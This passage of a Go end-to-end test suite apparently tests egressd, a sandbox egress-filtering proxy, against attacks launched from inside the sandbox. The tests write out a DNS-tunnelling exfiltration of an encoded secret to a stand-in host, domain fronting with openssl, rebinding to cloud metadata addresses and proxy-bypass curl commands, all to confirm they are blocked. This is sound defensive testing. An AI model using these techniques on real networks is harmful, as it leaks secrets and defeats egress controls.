package e2e

import (
	"bufio"
	"context"
	"encoding/base32"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/egressd/egressd/e2e/fakenet"
)

// Issue #3, "Done when": every test below is an attack from inside the
// sandbox with ordinary tools, scored on what the fake internet saw. Each
// deny test also proves the allowed path works in the same setup, so a
// broken setup cannot pass it.

func TestAllowedHTTPSViaExplicitProxy(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)

	reply := e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/explicit")
	if reply.SNI != "allowed.test" || reply.URI != "/explicit" || reply.Scheme != "https" {
		t.Errorf("server saw SNI %q URI %q scheme %q; want allowed.test /explicit https", reply.SNI, reply.URI, reply.Scheme)
	}
	if reply.Local != ap(host4, 443) {
		t.Errorf("server answered on %s, want %s", reply.Local, ap(host4, 443))
	}
	if reply.Remote.Addr() != e.s.Addr() {
		t.Errorf("request came from %s, want the sandbox's uplink address %s", reply.Remote.Addr(), e.s.Addr())
	}
	if n := e.w.HTTPRequests("allowed.test"); n != 1 {
		t.Errorf("world logged %d requests for allowed.test, want 1", n)
	}
	// Plain HTTP through the explicit proxy (absolute-form) too.
	reply = e.mustFetch("allowed.test", "-x", proxyURL, "http://allowed.test/plain")
	if reply.Scheme != "http" || reply.URI != "/plain" {
		t.Errorf("plain HTTP: server saw scheme %q URI %q", reply.Scheme, reply.URI)
	}
	rec := e.waitAudit("the CONNECT tunnel", func(r auditRecord) bool { return r.Kind == "connect" && r.Target == "allowed.test" })
	if rec.Decision != "allow" || rec.Reason != "allowed-by" || rec.Rule != "allowed.test" || rec.Source != e.source(lineOf(t, basePolicy, `"allowed.test"`)) {
		t.Errorf("audit record %+v: want allow, allowed-by allowed.test from %s", rec, e.source(lineOf(t, basePolicy, `"allowed.test"`)))
	}
}

func TestAllowedHTTPSTransparentlyWithoutProxyEnv(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)

	// No proxy in the environment or on the command line: curl resolves
	// through /etc/resolv.conf (redirected to egressd) and connects to the
	// server's address directly (redirected to the transparent listener).
	reply := e.mustFetch("allowed.test", "https://allowed.test/transparent")
	if reply.SNI != "allowed.test" || reply.URI != "/transparent" {
		t.Errorf("server saw SNI %q URI %q", reply.SNI, reply.URI)
	}
	if reply.Remote.Addr() != e.s.Addr() {
		t.Errorf("request came from %s, want the sandbox's address %s", reply.Remote.Addr(), e.s.Addr())
	}
	reply = e.mustFetch("allowed.test", "http://allowed.test/plain")
	if reply.Scheme != "http" {
		t.Errorf("plain HTTP: scheme %q", reply.Scheme)
	}
	// IPv6 all the way: an AAAA answer, a connection to the v6 address.
	reply = e.mustFetch("v6only.test", "-6", "https://v6only.test/")
	if reply.SNI != "v6only.test" {
		t.Errorf("IPv6: server saw SNI %q", reply.SNI)
	}
	if n := e.w.DNSQueries("allowed.test"); n == 0 {
		t.Error("the world's DNS never saw allowed.test: curl's lookup did not go through egressd's upstream")
	}
	e.waitAudit("the transparent TLS connection", func(r auditRecord) bool {
		return r.Kind == "tls" && r.Target == "allowed.test" && r.Decision == "allow" && r.Port == 443
	})
	e.waitAudit("the transparent HTTP request", func(r auditRecord) bool {
		return r.Kind == "http" && r.Target == "allowed.test" && r.Decision == "allow" && r.Port == 80
	})
}

func TestBlockedHostGets403WithRule(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	wantRule := "blocked-by blocked.test (" + e.source(lineOf(t, basePolicy, `"blocked.test"`)) + ")"

	e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/")

	// curl: the CONNECT is refused, no tunnel.
	r := e.curl("-v", "-x", proxyURL, "https://blocked.test/")
	if r.code == 0 || !strings.Contains(r.stderr, "< HTTP/1.1 403") || !strings.Contains(r.stderr, wantRule) {
		t.Errorf("curl via proxy to blocked.test: want a failed CONNECT answered 403 naming %q\n%s", wantRule, r)
	}
	// The raw CONNECT answer: 403, the header and body name rule and line.
	resp := e.rawHTTP("127.0.0.1", proxyPort, "seq", "CONNECT blocked.test:443 HTTP/1.1\r\nHost: blocked.test:443\r\n\r\n")
	if len(resp) != 1 || resp[0].Status != http.StatusForbidden {
		t.Fatalf("CONNECT blocked.test:443: want one 403, got %+v", resp)
	}
	if got := resp[0].Headers["x-egressd-denied"]; got != wantRule {
		t.Errorf("X-Egressd-Denied: %q, want %q", got, wantRule)
	}
	if want := "egressd: denied blocked.test:443: " + wantRule + "\n"; resp[0].Body != want {
		t.Errorf("CONNECT body: %q, want %q", resp[0].Body, want)
	}
	// Plain HTTP through the proxy: a readable 403 page.
	r = e.curl("-x", proxyURL, "-w", "\n%{http_code}", "http://blocked.test/?k=secret")
	if !strings.HasSuffix(r.stdout, "\n403") || !strings.Contains(r.stdout, wantRule) {
		t.Errorf("plain HTTP to blocked.test: want 403 naming %q\n%s", wantRule, r)
	}

	// Without the proxy (THREATS G4: unsetting HTTPS_PROXY changes
	// nothing), by name and with the address supplied by the client.
	for _, args := range [][]string{
		{"--noproxy", "*", "https://blocked.test/"},
		{"--resolve", "blocked.test:443:203.0.113.10", "https://blocked.test/"},
		{"--resolve", "blocked.test:80:203.0.113.10", "http://blocked.test/"},
	} {
		if reply, r, ok := e.fetch(args...); ok {
			t.Errorf("curl %s reached the server %+v\n%s", strings.Join(args, " "), reply, r)
		}
	}

	if n := e.w.HTTPRequests("blocked.test"); n != 0 {
		t.Errorf("world answered %d requests for blocked.test", n)
	}
	if n := e.w.DNSQueries("blocked.test"); n != 0 {
		t.Errorf("the proxy resolved the blocked name: world saw %d queries", n)
	}
	rec := e.waitAudit("the refused CONNECT", func(r auditRecord) bool { return r.Kind == "connect" && r.Target == "blocked.test" })
	if rec.Decision != "deny" || rec.Reason != "blocked-by" || rec.Rule != "blocked.test" || rec.Source != e.source(lineOf(t, basePolicy, `"blocked.test"`)) {
		t.Errorf("audit record %+v: want deny blocked-by blocked.test with its file:line", rec)
	}
}

func TestBlockedNameGetsNXDOMAINAndNoQueryReachesWorld(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)

	if d := e.dig("allowed.test"); d.status != "NOERROR" || !slices.Equal(d.answers, []string{"A 203.0.113.10"}) {
		t.Fatalf("dig allowed.test: %s", d)
	}
	secret := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte("AWS_SECRET=hunter2")), "="))
	exfil := secret + ".exfil.test"
	for _, q := range [][]string{
		{"blocked.test"},
		{"AAAA", "blocked.test"},
		{"TXT", "blocked.test"},
		{"+tcp", "blocked.test"},
		{"sub.blocked.test"}, // a block rule with no port blocks the name only; a child is simply not allowed
		{"other.test"},       // never listed
		{exfil},              // DNS tunnelling: the payload is the label
		{"TXT", exfil},
	} {
		d := e.dig(q...)
		if d.status != "NXDOMAIN" || len(d.answers) != 0 {
			t.Errorf("dig %s: want NXDOMAIN without answers, got %s", strings.Join(q, " "), d)
		}
	}
	// The same payload through the proxy: the proxy decides before it
	// resolves, so nothing is looked up.
	if r := e.curl("-x", proxyURL, "http://"+exfil+"/"); strings.Contains(r.stdout, `"server":"fakenet"`) {
		t.Errorf("exfil name via proxy reached a server:\n%s", r)
	}
	for _, name := range []string{"blocked.test", "sub.blocked.test", "other.test", exfil} {
		if n := e.w.DNSQueries(name); n != 0 {
			t.Errorf("world's DNS saw %d queries for %s", n, name)
		}
	}
	for _, q := range e.w.DNSLog() {
		if name := strings.ToLower(strings.TrimSuffix(q.Name, ".")); name != "allowed.test" {
			t.Errorf("world's DNS saw a query for %q (%s); only allowed.test may leave", q.Name, q.Type)
		}
	}
	if n := e.w.DNSQueries("allowed.test"); n == 0 {
		t.Error("allowed.test was never forwarded: the positive path is broken")
	}
}

func TestAnswersPointingAtPrivateAddressesAreStripped(t *testing.T) {
	t.Parallel()
	w := fakenet.Start(t, fakenet.WithHosts(netip.MustParseAddr("10.0.0.1"), netip.MustParseAddr("169.254.169.254")))
	setRecords(w)
	w.SetRecords("lo.rebind.test", fakenet.A("127.0.0.1"))
	w.SetRecords("ten.rebind.test", fakenet.A("10.0.0.1"))
	w.SetRecords("meta.rebind.test", fakenet.A("169.254.169.254"))
	w.SetRecords("mapped.rebind.test", fakenet.AAAA("::ffff:10.0.0.1"))
	w.SetRecords("mixed.rebind.test", fakenet.A("203.0.113.10"), fakenet.A("10.0.0.1"), fakenet.AAAA("::ffff:169.254.169.254"))
	w.SetRecords("flip.rebind.test", fakenet.A("203.0.113.10").WithTTL(0))
	s := w.NewSandbox(t)
	e := startEgressd(t, w, s, basePolicy)

	// Positive: the public address of a mixed answer survives, and that
	// name is fetchable.
	if d := e.dig("mixed.rebind.test"); d.status != "NOERROR" || !slices.Equal(d.answers, []string{"A 203.0.113.10"}) {
		t.Errorf("dig mixed.rebind.test: want only A 203.0.113.10, got %s", d)
	}
	if d := e.dig("AAAA", "mixed.rebind.test"); len(d.answers) != 0 {
		t.Errorf("dig AAAA mixed.rebind.test: want the mapped metadata address stripped, got %s", d)
	}
	e.mustFetch("mixed.rebind.test", "-x", proxyURL, "http://mixed.rebind.test/")

	for _, q := range [][]string{
		{"lo.rebind.test"}, {"ten.rebind.test"}, {"meta.rebind.test"}, {"AAAA", "mapped.rebind.test"},
	} {
		d := e.dig(q...)
		if len(d.answers) != 0 || d.status == "" {
			t.Errorf("dig %s: want an answer with every address stripped, got %s", strings.Join(q, " "), d)
		}
		if n := w.DNSQueries(q[len(q)-1]); n == 0 {
			t.Errorf("%s was not forwarded at all; the test proves nothing", q[len(q)-1])
		}
	}
	for _, name := range []string{"ten.rebind.test", "meta.rebind.test", "mapped.rebind.test"} {
		r := e.curl("-x", proxyURL, "http://"+name+"/")
		if strings.Contains(r.stdout, `"server":"fakenet"`) || !strings.Contains(r.stdout, "guarded-address") {
			t.Errorf("curl via proxy to %s: want a refusal naming guarded-address\n%s", name, r)
		}
		if r := e.curl("http://" + name + "/"); r.code == 0 {
			t.Errorf("curl %s without proxy succeeded:\n%s", name, r)
		}
	}
	// Rebinding: public for the check, private for the connect.
	if d := e.dig("flip.rebind.test"); !slices.Equal(d.answers, []string{"A 203.0.113.10"}) {
		t.Errorf("dig flip.rebind.test (public phase): %s", d)
	}
	w.SetRecords("flip.rebind.test", fakenet.A("10.0.0.1").WithTTL(0))
	if r := e.curl("-x", proxyURL, "http://flip.rebind.test/"); strings.Contains(r.stdout, `"server":"fakenet"`) {
		t.Errorf("rebound name reached a server:\n%s", r)
	}
	for _, a := range []string{"10.0.0.1", "169.254.169.254"} {
		for _, port := range []uint16{80, 443} {
			if n := w.TCPAccepted(ap(netip.MustParseAddr(a), port)); n != 0 {
				t.Errorf("the private host %s:%d accepted %d connections", a, port, n)
			}
		}
	}
}

func TestConnectWithMismatchingSNIIsClosed(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	req := "GET /fronted HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"

	// Positive: the same tool, honest SNI.
	r := run(t, e.s, fmt.Sprintf(req, "allowed.test"), "openssl", "s_client", "-quiet", "-proxy", "127.0.0.1:3128",
		"-connect", "allowed.test:443", "-servername", "allowed.test", "-CAfile", e.w.CAFile())
	if !strings.Contains(r.stdout, `"sni":"allowed.test"`) {
		t.Fatalf("openssl with an honest SNI: want the server's reply\n%s", r)
	}

	// Domain fronting: CONNECT names the allowed host, the ClientHello the
	// blocked one.
	r = run(t, e.s, fmt.Sprintf(req, "blocked.test"), "openssl", "s_client", "-quiet", "-proxy", "127.0.0.1:3128",
		"-connect", "allowed.test:443", "-servername", "blocked.test", "-CAfile", e.w.CAFile())
	if strings.Contains(r.stdout, "fakenet") || r.code == 0 {
		t.Errorf("openssl fronting blocked.test behind allowed.test: want no handshake\n%s", r)
	}
	// No SNI at all in a tunnel to a name (THREATS E1).
	r = run(t, e.s, fmt.Sprintf(req, "allowed.test"), "openssl", "s_client", "-quiet", "-proxy", "127.0.0.1:3128",
		"-connect", "allowed.test:443", "-noservername", "-CAfile", e.w.CAFile())
	if strings.Contains(r.stdout, "fakenet") {
		t.Errorf("openssl without SNI through a tunnel to allowed.test got the server's reply\n%s", r)
	}
	// An unlisted name, with curl's --connect-to (CONNECT goes to allowed.test).
	if reply, r, ok := e.fetch("-x", proxyURL, "--connect-to", "::allowed.test:", "https://other.test/"); ok {
		t.Errorf("curl --connect-to fronting other.test: the server answered %+v\n%s", reply, r)
	}
	for _, sni := range []string{"blocked.test", "other.test"} {
		if got := httpFrom(e.w, func(h fakenet.HTTPRequest) bool { return h.SNI == sni || h.Host == sni }); len(got) != 0 {
			t.Errorf("the world served %d requests with SNI/Host %s: %+v", len(got), sni, got)
		}
	}
	e.waitAudit("the SNI mismatch", func(r auditRecord) bool {
		return r.Kind == "connect" && r.Decision == "deny" && r.Reason == "sni-mismatch"
	})
	e.waitAudit("the missing SNI", func(r auditRecord) bool {
		return r.Kind == "connect" && r.Decision == "deny" && r.Reason == "no-sni"
	})
	if n := e.w.HTTPRequests("allowed.test"); n != 1 {
		t.Errorf("world served %d requests for allowed.test, want only the honest one", n)
	}
}

func TestKeepAliveHostSwitchToBlockedNameIsDenied(t *testing.T) {
	t.Parallel()
	env := newEnv(t, basePolicy)
	get := func(uri, host string) string {
		return "GET " + uri + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n"
	}

	for _, mode := range []string{"seq", "pipe"} {
		t.Run("explicit-"+mode, func(t *testing.T) {
			e := env.in(t)
			e.w.ResetCounters()
			resp := e.rawHTTP("127.0.0.1", proxyPort, mode,
				get("http://allowed.test/first", "allowed.test"),
				get("http://blocked.test/second", "blocked.test"),
				get("http://allowed.test/third", "allowed.test"))
			if len(resp) < 2 || resp[0].Status != 200 || !strings.Contains(resp[0].Body, `"host":"allowed.test"`) {
				t.Fatalf("first request: want the server's 200, got %+v", resp)
			}
			if resp[1].Status != http.StatusForbidden || !strings.Contains(resp[1].Body, "blocked-by blocked.test") {
				t.Errorf("second request (blocked host on the same connection): want 403, got %+v", resp[1])
			}
			if n := e.w.HTTPRequests("blocked.test"); n != 0 {
				t.Errorf("world served %d requests for blocked.test", n)
			}
			if n := e.w.HTTPRequests("allowed.test"); n != 1 {
				t.Errorf("world served %d requests for allowed.test, want exactly the first", n)
			}
		})
	}
	// Transparent: straight to the front end's address, port 80, Host
	// header switched on the kept-alive connection.
	t.Run("transparent", func(t *testing.T) {
		e := env.in(t)
		e.w.ResetCounters()
		resp := e.rawHTTP(host4.String(), 80, "seq",
			get("/first", "allowed.test"),
			get("/second", "blocked.test"))
		if len(resp) < 2 || resp[0].Status != 200 || !strings.Contains(resp[0].Body, `"host":"allowed.test"`) {
			t.Fatalf("first request: want the server's 200, got %+v", resp)
		}
		if resp[1].Status == 200 || strings.Contains(resp[1].Body, "fakenet") {
			t.Errorf("second request (Host: blocked.test): want a refusal, got %+v", resp[1])
		}
		if n := e.w.HTTPRequests("blocked.test"); n != 0 {
			t.Errorf("world served %d requests for blocked.test", n)
		}
		if n := e.w.HTTPRequests("allowed.test"); n != 1 {
			t.Errorf("world served %d requests for allowed.test, want 1", n)
		}
	})
}

func TestConnectToAllowedHostOnDisallowedPortIsDenied(t *testing.T) {
	t.Parallel()
	w := fakenet.Start(t)
	setRecords(w)
	banners := []netip.AddrPort{ap(host4, 22), ap(host4, 25), ap(host4, 8443)}
	for _, a := range banners {
		listenBanner(t, w, a)
	}
	s := w.NewSandbox(t)
	e := startEgressd(t, w, s, basePolicy)

	e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/")

	for _, port := range []string{"22", "25", "8443"} {
		resp := e.rawHTTP("127.0.0.1", proxyPort, "seq", "CONNECT allowed.test:"+port+" HTTP/1.1\r\nHost: allowed.test:"+port+"\r\n\r\nSSH-2.0-OpenSSH_9.6\r\n")
		if len(resp) != 1 || resp[0].Status != http.StatusForbidden || !strings.Contains(resp[0].Body, "no-allow-rule") {
			t.Errorf("CONNECT allowed.test:%s: want 403 no-allow-rule, got %+v", port, resp)
		}
	}
	if r := e.curl("-x", proxyURL, "https://allowed.test:8443/"); r.code == 0 {
		t.Errorf("curl via proxy to allowed.test:8443 succeeded:\n%s", r)
	}
	if r := e.curl("https://allowed.test:8443/"); r.code == 0 {
		t.Errorf("curl transparently to allowed.test:8443 succeeded:\n%s", r)
	}
	if p := e.probeTCP(ap(host4, 22), "SSH-2.0-probe\r\n"); strings.Contains(p.Reply, "BANNER") {
		t.Errorf("raw TCP to allowed.test's address on 22 reached the server: %+v", p)
	}
	for _, a := range banners {
		if n := w.TCPAccepted(a); n != 0 {
			t.Errorf("the server on %s accepted %d connections", a, n)
		}
	}
}

func TestRawTCPToLearnedAddressWorksAndOtherAddressIsReset(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	echo4, echo4b := ap(host4, 7), ap(host4b, 7)

	// Before any lookup the address is unknown: no name, no rule.
	if p := e.probeTCP(echo4, "before-dig\n"); p.Reply == "before-dig\n" {
		t.Errorf("raw TCP to %s before any lookup was echoed: %+v", echo4, p)
	}
	// allowed.test has the same address, but is allowed on 80/443 only.
	if d := e.dig("allowed.test"); !slices.Equal(d.answers, []string{"A 203.0.113.10"}) {
		t.Fatalf("dig allowed.test: %s", d)
	}
	if p := e.probeTCP(echo4, "port-not-allowed\n"); p.Reply == "port-not-allowed\n" {
		t.Errorf("raw TCP to %s learned only for allowed.test (80/443) was echoed: %+v", echo4, p)
	}
	if n := e.w.TCPAccepted(echo4); n != 0 {
		t.Fatalf("echo server on %s accepted %d connections before echo.test was resolved", echo4, n)
	}

	if d := e.dig("echo.test"); !slices.Equal(d.answers, []string{"A 203.0.113.10"}) {
		t.Fatalf("dig echo.test: %s", d)
	}
	if p := e.probeTCP(echo4, "hello-echo\n"); p.Reply != "hello-echo\n" {
		t.Errorf("raw TCP to learned %s: want the echo, got %+v", echo4, p)
	}
	if n := e.w.TCPAccepted(echo4); n != 1 {
		t.Errorf("echo server on %s accepted %d connections, want 1", echo4, n)
	}
	// Another address on the same port was never an answer for echo.test.
	if p := e.probeTCP(echo4b, "elsewhere\n"); !refusedFast(p, "elsewhere\n") {
		t.Errorf("raw TCP to unlearned %s: want a reset or close, got %+v", echo4b, p)
	}
	if n := e.w.TCPAccepted(echo4b); n != 0 {
		t.Errorf("echo server on %s accepted %d connections", echo4b, n)
	}
	e.waitAudit("the denied raw TCP", func(r auditRecord) bool {
		return r.Kind == "tcp" && r.Target == host4b.String() && r.Decision == "deny"
	})
	e.waitAudit("the allowed raw TCP", func(r auditRecord) bool {
		return r.Kind == "tcp" && r.Decision == "allow" && r.BytesUp == int64(len("hello-echo\n")) && r.BytesDown == int64(len("hello-echo\n"))
	})
}

func TestDigToAnyAddressLandsOnEgressd(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)

	for _, q := range [][]string{
		{"@203.0.113.99", "allowed.test"},
		{"@2001:db8::99", "allowed.test"},
		{"+tcp", "@203.0.113.99", "allowed.test"},
		{"+tcp", "@2001:db8::99", "allowed.test"},
		{"@127.0.0.1", "allowed.test"},
	} {
		d := e.dig(q...)
		if d.status != "NOERROR" || !slices.Equal(d.answers, []string{"A 203.0.113.10"}) {
			t.Errorf("dig %s: want egressd's answer A 203.0.113.10, got %s", strings.Join(q, " "), d)
		}
	}
	// Straight at the real upstream: still egressd, which refuses.
	for _, q := range [][]string{{"@203.0.113.53", "blocked.test"}, {"+tcp", "@203.0.113.53", "blocked.test"}, {"@2001:db8::53", "blocked.test"}} {
		if d := e.dig(q...); d.status != "NXDOMAIN" {
			t.Errorf("dig %s: want NXDOMAIN from egressd, got %s", strings.Join(q, " "), d)
		}
	}
	if n := e.w.DNSQueries("blocked.test"); n != 0 {
		t.Errorf("world's DNS saw %d queries for blocked.test", n)
	}
	for _, q := range e.w.DNSLog() {
		if q.Server != ap(dnsAddr, 53) {
			t.Errorf("a query for %s reached %s; only egressd's upstream %s is used", q.Name, q.Server, ap(dnsAddr, 53))
		}
	}
	// DNS on another port does not leave at all.
	if d := e.dig("-p", "5353", "@203.0.113.53", "allowed.test"); d.status != "" {
		t.Errorf("dig -p 5353 got a reply: %s", d)
	}
	n := 0
	for _, r := range e.audit() {
		if r.Kind == "dns" && r.Target == "allowed.test" {
			n++
		}
	}
	if n < 5 {
		t.Errorf("audit log has %d DNS records for allowed.test, want at least 5 (one per dig)\n%s", n, e.auditText())
	}
}

func TestReloadThatBreaksTheFileKeepsOldPolicy(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/")
	before := e.metric("egressd_policy_reload_failures_total")

	// Broken on line 8, and trying to allow blocked.test on the way.
	broken := strings.Replace(basePolicy, `  "dual.test",`, `  "blocked.test", "dual.test" oops`, 1)
	badLine := lineOf(t, broken, "oops")
	e.writePolicy(broken)
	if !eventually(5*time.Second, func() bool { return strings.Contains(e.stderr.String(), "policy reload refused") }) {
		t.Errorf("egressd did not log the refused reload:\n%s", e.stderr)
	}
	code, body := e.admin(http.MethodPost, "/reload")
	if code != http.StatusUnprocessableEntity || !strings.Contains(body, fmt.Sprintf("%s:%d:", e.policyPath, badLine)) {
		t.Errorf("POST /reload: want 422 naming %s:%d:COL, got %d %q", e.policyPath, badLine, code, body)
	}
	if after := e.metric("egressd_policy_reload_failures_total"); after < before+1 {
		t.Errorf("egressd_policy_reload_failures_total went from %v to %v", before, after)
	}
	if !e.running() {
		t.Fatalf("egressd exited on a broken policy:\n%s", e.stderr)
	}
	// The old policy is in force: allowed works, blocked stays blocked.
	e.mustFetch("allowed.test", "-x", proxyURL, "https://allowed.test/after")
	if d := e.dig("dual.test"); d.status != "NOERROR" {
		t.Errorf("dig dual.test after the refused reload: %s", d)
	}
	if r := e.curl("-x", proxyURL, "https://blocked.test/"); r.code == 0 {
		t.Errorf("blocked.test works after a broken file tried to allow it:\n%s", r)
	}
	if n := e.w.HTTPRequests("blocked.test"); n != 0 {
		t.Errorf("world served %d requests for blocked.test", n)
	}
	// And a good file afterwards takes effect.
	e.writePolicy(strings.Replace(basePolicy, `  "allowed.test",`+"\n", "", 1))
	if !eventually(5*time.Second, func() bool {
		r := e.curl("-v", "-x", proxyURL, "https://allowed.test/")
		return r.code != 0 && strings.Contains(r.stderr, "no-allow-rule")
	}) {
		t.Error("a valid policy without allowed.test did not take effect after the broken one")
	}
}

// TestReloadAppliesResolverSettings: a reload that changes
// dns_block_response and upstream_dns used to be accepted and shown by
// /policy while the resolver kept the old values. dig scores the answer to a
// denied name; the world's DNS log scores which resolver address the allowed
// names reached.
func TestReloadAppliesResolverSettings(t *testing.T) {
	t.Parallel()
	w := fakenet.Start(t)
	setRecords(w)
	s := w.NewSandbox(t)
	withResolver := func(resp, upstream string) string {
		return basePolicy + fmt.Sprintf("dns_block_response = %q\nupstream_dns = [%q]\n", resp, upstream)
	}
	e := startEgressdWith(t, w, s, startOpts{policyTOML: withResolver("nxdomain", "203.0.113.53"), upstreamFromPolicy: true})
	v4, v6 := ap(fakenet.DNS4, 53), ap(fakenet.DNS6, 53)

	if d := e.dig("blocked.test"); d.status != "NXDOMAIN" {
		t.Fatalf("dig blocked.test before the reload: %s", d)
	}
	if d := e.dig("allowed.test"); d.status != "NOERROR" || len(d.answers) != 1 {
		t.Fatalf("dig allowed.test before the reload: %s", d)
	}
	if got := serversAsked(w, "allowed.test"); !slices.Equal(got, []netip.AddrPort{v4}) {
		t.Fatalf("allowed.test before the reload reached %v, want only %v", got, v4)
	}

	before := e.metric("egressd_policy_reloads_total")
	e.writePolicy(withResolver("refused", "[2001:db8::53]:53"))
	if !eventually(10*time.Second, func() bool { return e.metric("egressd_policy_reloads_total") > before }) {
		t.Fatalf("the reload did not happen:\n%s", e.stderr)
	}
	if d := e.dig("blocked.test"); d.status != "REFUSED" {
		t.Errorf("dig blocked.test after the reload: %s, want REFUSED", d)
	}
	if d := e.dig("other.test"); d.status != "REFUSED" {
		t.Errorf("dig other.test (never allowed) after the reload: %s, want REFUSED", d)
	}
	// allowed.test was cached from the old resolver: asked again, at the
	// new one; dual.test was never asked.
	for _, name := range []string{"allowed.test", "dual.test"} {
		if d := e.dig(name); d.status != "NOERROR" || len(d.answers) == 0 {
			t.Errorf("dig %s after the reload: %s", name, d)
		}
	}
	if got := serversAsked(w, "allowed.test"); !slices.Equal(got, []netip.AddrPort{v4, v6}) {
		t.Errorf("allowed.test reached %v, want %v then %v", got, v4, v6)
	}
	if got := serversAsked(w, "dual.test"); !slices.Equal(got, []netip.AddrPort{v6}) {
		t.Errorf("dual.test after the reload reached %v, want only %v", got, v6)
	}
	_, body := e.admin(http.MethodGet, "/policy")
	if !strings.Contains(body, "refused") || !strings.Contains(body, "2001:db8::53") {
		t.Errorf("GET /policy does not show the new resolver settings:\n%s", body)
	}
}

// serversAsked lists, in order and without repeats in a row, the resolver
// addresses at which the world's DNS server received questions for name.
func serversAsked(w *fakenet.World, name string) []netip.AddrPort {
	var out []netip.AddrPort
	for _, q := range w.DNSLog() {
		if strings.EqualFold(strings.TrimSuffix(q.Name, "."), name) && (len(out) == 0 || out[len(out)-1] != q.Server) {
			out = append(out, q.Server)
		}
	}
	return out
}

// TestReloadHappensUnderSteadyAuditLogTraffic: the audit log lives next to
// the policy file. A watcher that reacted to every event of the directory
// restarted its debounce on each audit record, so under ~16 queries/s a
// policy edit was never applied.
func TestReloadHappensUnderSteadyAuditLogTraffic(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	if filepath.Dir(e.auditPath) != filepath.Dir(e.policyPath) {
		t.Fatalf("the audit log %s is not in the policy's directory", e.auditPath)
	}
	// Two threads resolving allowed.test every 10ms from inside the
	// sandbox (an A and an AAAA query each, one audit record per query):
	// ~300 records/s, far more than the 16/s that starved the old watcher.
	ctx, cancel := context.WithCancel(context.Background())
	loop := e.s.Exec(ctx, pythonBin, "-c", `
import socket, threading, time
def resolve():
    while True:
        try:
            socket.getaddrinfo("allowed.test", 443)
        except OSError:
            pass
        time.sleep(0.01)
for _ in range(2):
    threading.Thread(target=resolve, daemon=True).start()
time.sleep(3600)
`)
	loop.Env = cleanEnv()
	if err := loop.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cancel(); _ = loop.Wait() }()
	lines := func() int { return strings.Count(e.auditText(), "\n") }
	if !eventually(5*time.Second, func() bool { return lines() >= 10 }) {
		t.Fatalf("the query loop wrote %d audit records in 5s", lines())
	}
	if d := e.dig("other.test"); d.status != "NXDOMAIN" {
		t.Fatalf("dig other.test before the reload: %s", d)
	}

	start, before := lines(), e.metric("egressd_policy_reloads_total")
	e.writePolicy(strings.Replace(basePolicy, `  "allowed.test",`, `  "allowed.test", "other.test",`, 1))
	if !eventually(5*time.Second, func() bool { return e.metric("egressd_policy_reloads_total") > before }) {
		t.Fatalf("no reload 5s after the policy changed, while the audit log grew by %d records", lines()-start)
	}
	if !eventually(2*time.Second, func() bool { return lines() > start }) {
		t.Errorf("the query loop stopped writing audit records: the traffic was not steady")
	}
	if d := e.dig("other.test"); d.status != "NOERROR" {
		t.Errorf("dig other.test after the reload: %s, want NOERROR", d)
	}
}

func TestReloadThatRemovesAHostClosesItsOpenTunnel(t *testing.T) {
	t.Parallel()
	e := newEnv(t, basePolicy)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()

	// Three long-lived connections from the sandbox: a CONNECT tunnel with
	// TLS to drop.test, one to keep.test (stays allowed), and raw TCP to
	// the echo server (allowed by a learned address).
	drop, err := e.dialProxyTLS(ctx, "drop.test:443", "drop.test")
	if err != nil {
		t.Fatalf("tunnel to drop.test: %v", err)
	}
	defer drop.Close()
	keep, err := e.dialProxyTLS(ctx, "keep.test:443", "keep.test")
	if err != nil {
		t.Fatalf("tunnel to keep.test: %v", err)
	}
	defer keep.Close()
	dropBR, keepBR := bufio.NewReader(drop), bufio.NewReader(keep)
	if reply, err := getOn(drop, dropBR, "drop.test", 5*time.Second); err != nil || reply.SNI != "drop.test" {
		t.Fatalf("first request on the drop.test tunnel: %+v %v", reply, err)
	}
	if reply, err := getOn(keep, keepBR, "keep.test", 5*time.Second); err != nil || reply.SNI != "keep.test" {
		t.Fatalf("first request on the keep.test tunnel: %+v %v", reply, err)
	}
	if d := e.dig("echo.test"); len(d.answers) != 1 {
		t.Fatalf("dig echo.test: %s", d)
	}
	echo, err := e.s.DialContext(ctx, "tcp", ap(host4, 7).String())
	if err != nil {
		t.Fatalf("raw TCP to the echo server: %v", err)
	}
	defer echo.Close()
	if got := echoOnce(echo, "before\n"); got != "before\n" {
		t.Fatalf("echo before the reload: %q", got)
	}

	// Drop drop.test and echo.test from the policy.
	next := strings.Replace(strings.Replace(basePolicy, `  "drop.test",`+"\n", "", 1), `  "echo.test:7",`+"\n", "", 1)
	reloaded := time.Now()
	e.writePolicy(next)

	// closedAfter waits for the server side to end c and says when, or -1
	// if c was still open 5s after the reload.
	closedAfter := func(c net.Conn) time.Duration {
		_ = c.SetReadDeadline(reloaded.Add(5 * time.Second))
		buf := make([]byte, 512)
		for {
			if _, err := c.Read(buf); err != nil {
				if errors.Is(err, os.ErrDeadlineExceeded) {
					return -1
				}
				return time.Since(reloaded)
			}
		}
	}
	if d := closedAfter(drop); d < 0 {
		t.Error("the drop.test tunnel was still open 5s after the policy dropped the host")
	} else {
		t.Logf("drop.test tunnel closed %s after the policy file was replaced", d.Round(time.Millisecond))
	}
	if d := closedAfter(echo); d < 0 {
		t.Error("the raw TCP connection to echo.test was still open 5s after the policy dropped it")
	} else {
		t.Logf("echo.test connection closed %s after the policy file was replaced", d.Round(time.Millisecond))
	}
